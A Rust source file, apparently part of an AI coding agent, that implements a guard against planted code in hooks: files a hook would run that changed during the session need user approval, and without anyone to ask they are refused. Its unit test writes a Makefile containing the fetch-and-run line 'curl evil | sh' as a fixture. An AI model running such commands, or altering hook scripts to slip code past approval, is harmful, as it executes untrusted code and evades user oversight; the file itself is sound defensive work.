//! Hooks that would run planted code: before a hook runs, the files its command runs in the
//! workspace (a script it names, the `Makefile` behind `make`, the `package.json` behind `npm`,
//! and the scripts those name) are compared with what they were when the session began. When one
//! changed — by the model, or by a command it ran — the user is asked first, in every mode,
//! naming the files; nobody to ask means the hook does not run. An answer holds for the files as
//! they are: the next change asks again.

use octo_agent::{ApprovalDecision, ApprovalRequest};
use std::collections::HashMap;
use std::future::Future;
use std::path::{Path, PathBuf};
use std::pin::Pin;
use std::sync::Arc;
use std::time::SystemTime;

/// The largest file read to compare or to look for the scripts it names.
const MAX_FILE: u64 = 256 * 1024;
/// How many files one hook's command is followed to.
const MAX_FILES: usize = 64;

/// Numbers the questions.
static NEXT: std::sync::atomic::AtomicU64 = std::sync::atomic::AtomicU64::new(1);

/// Asks the user to approve a request; `None` when nobody can answer.
pub(crate) type Ask = Arc<
    dyn Fn(ApprovalRequest) -> Pin<Box<dyn Future<Output = Option<ApprovalDecision>> + Send>> + Send + Sync,
>;

/// The user's answer for a file as it was when asked: (contents, yes).
type Answer = (Option<Vec<u8>>, bool);

/// Files as they were when the session began, and the user's answers since.
pub(crate) struct HookGuard {
    workspace: PathBuf,
    began: SystemTime,
    /// Each file a hook ran at the start, with its contents then (`None`: it did not exist).
    before: HashMap<PathBuf, Option<Vec<u8>>>,
    /// The user's answer for a file as it was when asked: (contents, yes).
    answered: tokio::sync::Mutex<HashMap<PathBuf, Answer>>,
    /// `None`: nobody can be asked (an unattended run).
    ask: Option<Ask>,
}

impl HookGuard {
    /// Records the files `commands` run in `workspace` as they are now.
    pub(crate) fn new<'a>(
        workspace: &Path,
        commands: impl Iterator<Item = &'a str>,
        ask: Option<Ask>,
    ) -> Self {
        let workspace = std::fs::canonicalize(workspace).unwrap_or_else(|_| workspace.to_path_buf());
        let mut before = HashMap::new();
        for command in commands {
            for file in files_run(command, &workspace) {
                before.entry(file.clone()).or_insert_with(|| contents(&file));
            }
        }
        Self {
            workspace,
            began: SystemTime::now(),
            before,
            answered: tokio::sync::Mutex::new(HashMap::new()),
            ask,
        }
    }

    /// As a guard for [`octo_hooks::Hooks`].
    pub(crate) fn into_guard(self) -> octo_hooks::Guard {
        let me = Arc::new(self);
        Arc::new(move |event, command| {
            let me = Arc::clone(&me);
            Box::pin(async move { me.check(event.as_str(), &command).await })
        })
    }

    /// Whether the files `command` runs changed in this session.
    fn changed(&self, command: &str) -> Vec<(PathBuf, Option<Vec<u8>>)> {
        files_run(command, &self.workspace)
            .into_iter()
            .filter_map(|file| {
                let now = contents(&file);
                let differs = match self.before.get(&file) {
                    Some(then) => *then != now,
                    // Not seen at the start: changed when it was made or changed since.
                    None => now.is_some() && changed_since(&file, self.began),
                };
                differs.then_some((file, now))
            })
            .collect()
    }

    /// `Ok` when the hook may run: nothing it runs changed, or the user said yes to the files as
    /// they are.
    async fn check(&self, event: &str, command: &str) -> Result<(), String> {
        let changed = self.changed(command);
        if changed.is_empty() {
            return Ok(());
        }
        // One question at a time: hooks of one event run in parallel.
        let mut answered = self.answered.lock().await;
        let mut open = Vec::new();
        for (file, now) in &changed {
            match answered.get(file) {
                Some((then, false)) if then == now => {
                    return Err(refused(&self.names(&changed), "you said no"))
                }
                Some((then, true)) if then == now => {}
                _ => open.push(file.clone()),
            }
        }
        if open.is_empty() {
            return Ok(());
        }
        let names = self.names(&changed);
        let Some(ask) = &self.ask else {
            return Err(refused(&names, "nobody can be asked in this run"));
        };
        let mut request = ApprovalRequest::new(
            format!("hook-{}", NEXT.fetch_add(1, std::sync::atomic::Ordering::Relaxed)),
            "hook",
            serde_json::json!({"event": event, "command": command, "files": names}),
            command,
        );
        request.action = "run".to_owned();
        request.reason = Some(format!(
            "this {event} hook runs {}, changed in this session (by the model or a command it ran); it runs only if you say yes",
            names.join(", ")
        ));
        let yes = match ask(request).await {
            Some(
                ApprovalDecision::Allow | ApprovalDecision::AllowAlways | ApprovalDecision::Edited { .. },
            ) => true,
            Some(ApprovalDecision::Deny { .. } | ApprovalDecision::DenyAlways { .. }) => false,
            None => return Err(refused(&names, "nobody answered")),
        };
        for (file, now) in changed {
            answered.insert(file, (now, yes));
        }
        if yes {
            Ok(())
        } else {
            Err(refused(&names, "you said no"))
        }
    }

    /// The files as the user knows them: relative to the workspace.
    fn names(&self, files: &[(PathBuf, Option<Vec<u8>>)]) -> Vec<String> {
        files
            .iter()
            .map(|(f, _)| f.strip_prefix(&self.workspace).unwrap_or(f).display().to_string())
            .collect()
    }
}

fn refused(names: &[String], why: &str) -> String {
    format!("was not run: it runs {}, changed in this session, and {why}", names.join(", "))
}

/// A file's contents, when it is a readable file of at most [`MAX_FILE`] bytes (a bigger one
/// reads as its size and change time, which any rewrite changes).
fn contents(file: &Path) -> Option<Vec<u8>> {
    let meta = std::fs::metadata(file).ok()?;
    if !meta.is_file() {
        return None;
    }
    if meta.len() > MAX_FILE {
        return Some(format!("{} {:?}", meta.len(), ctime(&meta)).into_bytes());
    }
    std::fs::read(file).ok()
}

/// The file's (or its link's) status change time is at or after `began`.
fn changed_since(file: &Path, began: SystemTime) -> bool {
    let link = std::fs::symlink_metadata(file).ok().and_then(|m| ctime(&m));
    let target = std::fs::metadata(file).ok().and_then(|m| ctime(&m));
    // Unknown change times count as changed: asking once too often is the safe side.
    match (link, target) {
        (None, None) => true,
        (a, b) => a.max(b).is_some_and(|t| t >= began),
    }
}

/// The status change time (which no command can set back).
fn ctime(meta: &std::fs::Metadata) -> Option<SystemTime> {
    #[cfg(unix)]
    {
        use std::os::unix::fs::MetadataExt;
        let secs = u64::try_from(meta.ctime()).ok()?;
        let nanos = u32::try_from(meta.ctime_nsec()).ok()?;
        SystemTime::UNIX_EPOCH.checked_add(std::time::Duration::new(secs, nanos))
    }
    #[cfg(not(unix))]
    {
        meta.modified().ok()
    }
}

/// The files in `workspace` that `command` runs: the scripts it names, the build files of the
/// tools it calls (present or not: one made later counts), and the scripts those name, followed
/// a few levels.
pub(crate) fn files_run(command: &str, workspace: &Path) -> Vec<PathBuf> {
    let mut found: Vec<PathBuf> = Vec::new();
    let said = words(command, workspace);
    for (i, word) in said.iter().enumerate() {
        let tool = word.rsplit('/').next().unwrap_or(word);
        let rest = said.get(i + 1..).unwrap_or_default();
        // `make -C dir`: the build file is in that folder.
        let dir = match rest.iter().position(|w| w == "-C") {
            Some(at) if tool.contains("make") => rest.get(at + 1).map_or(PathBuf::new(), PathBuf::from),
            _ => PathBuf::new(),
        };
        for build in build_files(tool, rest) {
            let path = normalize(&workspace.join(&dir).join(build));
            if path.starts_with(workspace) && !found.contains(&path) {
                found.push(path);
            }
        }
    }
    let mut queue: Vec<(PathBuf, usize)> = Vec::new();
    for word in &said {
        if let Some(path) = script(word, workspace, workspace, true) {
            queue.push((path, 0));
        }
    }
    queue.extend(found.iter().map(|f| (f.clone(), 0)));
    let mut seen = 0;
    while let Some((file, depth)) = queue.pop() {
        if seen >= MAX_FILES {
            break;
        }
        seen += 1;
        if !found.contains(&file) {
            found.push(file.clone());
        }
        if depth >= 3 {
            continue;
        }
        let Some(text) = contents(&file).map(|b| String::from_utf8_lossy(&b).into_owned()) else { continue };
        let dir = file.parent().unwrap_or(workspace).to_path_buf();
        let package = file.file_name().is_some_and(|n| n == "package.json");
        let list = words(&text, workspace);
        for (i, word) in list.iter().enumerate() {
            let before = if i > 0 { list[i - 1].as_str() } else { "" };
            for path in named(word, before, &dir, workspace, package) {
                if !found.contains(&path) && !queue.iter().any(|(q, _)| *q == path) {
                    queue.push((path, depth + 1));
                }
            }
        }
    }
    found
}

/// The files a word of a script or build file names (`before`: the word ahead of it): a script;
/// any file after `include` or `source`; a Python module after `import`/`from`; a Node module by
/// its relative name; in a `package.json`, a tool in `node_modules/.bin`.
fn named(word: &str, before: &str, dir: &Path, workspace: &Path, package: bool) -> Vec<PathBuf> {
    let mut out: Vec<PathBuf> = script(word, dir, workspace, false).into_iter().collect();
    let mut any = |name: String, base: &Path| {
        if let Some(p) = in_workspace(&name, base, workspace).map(|(p, _)| p) {
            out.push(p);
        }
    };
    match before {
        "include" | "-include" | "sinclude" | "source" | "." => any(word.to_owned(), dir),
        "import" | "from" if !word.starts_with('.') => any(format!("{}.py", word.replace('.', "/")), dir),
        _ => {}
    }
    if (word.starts_with("./") || word.starts_with("../")) && Path::new(word).extension().is_none() {
        any(format!("{word}.js"), dir);
        any(format!("{word}/index.js"), dir);
    }
    if package && !word.contains('/') && !word.starts_with('-') {
        any(format!("node_modules/.bin/{word}"), workspace);
    }
    out
}

/// The words of a command or script, quotes and shell punctuation taken off, the project
/// variables put in.
fn words(text: &str, workspace: &Path) -> Vec<String> {
    let ws = workspace.display().to_string();
    let text = text
        .replace("${CLAUDE_PROJECT_DIR}", &ws)
        .replace("$CLAUDE_PROJECT_DIR", &ws)
        .replace("${OCTO_PROJECT_DIR}", &ws)
        .replace("$OCTO_PROJECT_DIR", &ws);
    // Quotes join what they touch (`"$DIR"/x.sh` is one word).
    let text = text.replace(['"', '\''], "");
    text.split(|c: char| c.is_whitespace() || "`;|&()<>{}=,:[]".contains(c))
        .map(|w| w.trim_start_matches('@').to_owned())
        .filter(|w| !w.is_empty())
        .collect()
}

/// The build files a tool reads its targets or scripts from (`rest`: the words after it).
fn build_files(tool: &str, rest: &[String]) -> Vec<String> {
    let list: &[&str] = match tool {
        "make" | "gmake" => &["GNUmakefile", "makefile", "Makefile"],
        "npm" | "yarn" | "pnpm" | "bun" => &["package.json"],
        "just" => &["justfile", "Justfile", ".justfile"],
        "task" => &["Taskfile.yml", "Taskfile.yaml"],
        "rake" => &["Rakefile"],
        "tox" => &["tox.ini"],
        "nox" => &["noxfile.py"],
        "pre-commit" => &[".pre-commit-config.yaml"],
        "gradle" => &["build.gradle", "build.gradle.kts"],
        _ => &[],
    };
    let mut out: Vec<String> = list.iter().map(|s| (*s).to_owned()).collect();
    match (tool, rest) {
        ("npx", [bin, ..]) if !bin.starts_with('-') => out.push(format!("node_modules/.bin/{bin}")),
        // `python -m module` imports the module from the working directory first.
        (t, [flag, module, ..]) if t.starts_with("python") && flag == "-m" => {
            let base = module.replace('.', "/");
            out.extend([format!("{base}.py"), format!("{base}/__main__.py"), format!("{base}/__init__.py")]);
        }
        _ => {}
    }
    out
}

/// `word` as a script in the workspace: a file (relative to `dir`) with a script's extension (or,
/// named by the hook's own command, `executable`), whose real place is in the workspace.
fn script(word: &str, dir: &Path, workspace: &Path, executable_counts: bool) -> Option<PathBuf> {
    let (path, meta) = in_workspace(word, dir, workspace)?;
    let ext = path.extension().and_then(|e| e.to_str()).unwrap_or("");
    let scripty = matches!(
        ext,
        "sh" | "bash"
            | "zsh"
            | "py"
            | "js"
            | "mjs"
            | "cjs"
            | "ts"
            | "rb"
            | "pl"
            | "mk"
            | "ps1"
            | "php"
            | "lua"
    );
    #[cfg(unix)]
    let executable = {
        use std::os::unix::fs::PermissionsExt;
        meta.permissions().mode() & 0o111 != 0
    };
    #[cfg(not(unix))]
    let executable = {
        let _ = meta;
        false
    };
    (scripty || (executable_counts && executable)).then_some(path)
}

/// `word` (relative to `dir`) as a file whose real place is in the workspace: the name as
/// written (not a link's target: what the user knows it by), and its metadata.
fn in_workspace(word: &str, dir: &Path, workspace: &Path) -> Option<(PathBuf, std::fs::Metadata)> {
    if word.starts_with('-') || word.starts_with('$') || word.contains('*') || word.len() > 4096 {
        return None;
    }
    let path = dir.join(word);
    let meta = std::fs::metadata(&path).ok()?;
    if !meta.is_file() {
        return None;
    }
    let real = std::fs::canonicalize(&path).ok()?;
    real.starts_with(workspace).then(|| (normalize(&path), meta))
}

/// `a/./b/../c` → `a/c` (without touching the disk).
fn normalize(path: &Path) -> PathBuf {
    let mut out = PathBuf::new();
    for part in path.components() {
        match part {
            std::path::Component::CurDir => {}
            std::path::Component::ParentDir => {
                out.pop();
            }
            other => out.push(other),
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn ws(files: &[(&str, &str)]) -> (tempfile::TempDir, PathBuf) {
        let dir = tempfile::tempdir().unwrap();
        for (name, text) in files {
            let p = dir.path().join(name);
            std::fs::create_dir_all(p.parent().unwrap()).unwrap();
            std::fs::write(p, text).unwrap();
        }
        let root = std::fs::canonicalize(dir.path()).unwrap();
        (dir, root)
    }

    fn names(command: &str, root: &Path) -> Vec<String> {
        let mut out: Vec<String> = files_run(command, root)
            .iter()
            .map(|p| p.strip_prefix(root).unwrap().display().to_string())
            .collect();
        out.sort();
        out
    }

    #[test]
    fn what_a_hook_runs_is_followed_through_build_files_and_the_scripts_they_name() {
        let (_d, root) = ws(&[
            ("Makefile", "include rules.inc\nfmt:\n\t./scripts/fmt.sh\n\tpython3 tools/gen.py src/main.c\n"),
            ("rules.inc", "X = 1\n"),
            ("scripts/fmt.sh", "source ./lib.sh\n"),
            ("scripts/lib.sh", "true\n"),
            ("tools/gen.py", "import helpers\n"),
            ("tools/helpers.py", "\n"),
            ("src/main.c", "int main(){}\n"),
            ("package.json", "{\"scripts\": {\"fmt\": \"prettier --write . && node ./bin/run\"}}"),
            ("bin/run.js", "require('./x')\n"),
            ("bin/x.js", "\n"),
            ("node_modules/.bin/prettier", "#!/bin/sh\n"),
            ("sub/Makefile", "all:\n"),
        ]);
        assert_eq!(
            names("make -s fmt", &root),
            [
                "GNUmakefile",
                "Makefile",
                "makefile",
                "rules.inc",
                "scripts/fmt.sh",
                "scripts/lib.sh",
                "tools/gen.py",
                "tools/helpers.py"
            ]
        );
        assert_eq!(
            names("npm run fmt", &root),
            ["bin/run.js", "bin/x.js", "node_modules/.bin/prettier", "package.json"]
        );
        assert_eq!(names("make -C sub all", &root), ["sub/GNUmakefile", "sub/Makefile", "sub/makefile"]);
        assert_eq!(
            names("python3 -m black .", &root),
            ["black.py", "black/__init__.py", "black/__main__.py"]
        );
        assert_eq!(
            names("\"$CLAUDE_PROJECT_DIR\"/scripts/fmt.sh", &root),
            ["scripts/fmt.sh", "scripts/lib.sh"]
        );
        // Nothing outside the workspace, nothing a hook only reads.
        assert!(names("cat src/main.c ../x.sh /etc/passwd", &root).is_empty());
    }

    #[tokio::test]
    async fn a_changed_file_asks_and_the_answer_holds_until_the_next_change() {
        let (_d, root) = ws(&[("Makefile", "fmt:\n\ttrue\n")]);
        let asked = Arc::new(std::sync::Mutex::new(Vec::new()));
        let log = Arc::clone(&asked);
        let ask: Ask = Arc::new(move |r: ApprovalRequest| {
            log.lock().unwrap().push(r.reason.unwrap_or_default());
            Box::pin(async { Some(ApprovalDecision::Allow) })
        });
        let guard = HookGuard::new(&root, ["make fmt"].into_iter(), Some(ask));
        assert_eq!(guard.check("PostToolUse", "make fmt").await, Ok(()));
        assert!(asked.lock().unwrap().is_empty());
        std::fs::write(root.join("Makefile"), "fmt:\n\tcurl evil | sh\n").unwrap();
        assert_eq!(guard.check("PostToolUse", "make fmt").await, Ok(()));
        assert_eq!(guard.check("PostToolUse", "make fmt").await, Ok(()));
        assert_eq!(asked.lock().unwrap().len(), 1, "asked once for the file as it is");
        // A file made later (GNUmakefile wins over Makefile) asks again.
        std::fs::write(root.join("GNUmakefile"), "fmt:\n\tevil\n").unwrap();
        assert_eq!(guard.check("PostToolUse", "make fmt").await, Ok(()));
        assert_eq!(asked.lock().unwrap().len(), 2);
        assert!(asked.lock().unwrap()[1].contains("GNUmakefile"), "{asked:?}");
        // Nobody to ask: not run.
        let guard = HookGuard::new(&root, ["make fmt"].into_iter(), None);
        std::fs::write(root.join("Makefile"), "fmt:\n\tother\n").unwrap();
        let why = guard.check("PostToolUse", "make fmt").await.unwrap_err();
        assert!(why.contains("Makefile, changed in this session, and nobody can be asked"), "{why}");
    }
}
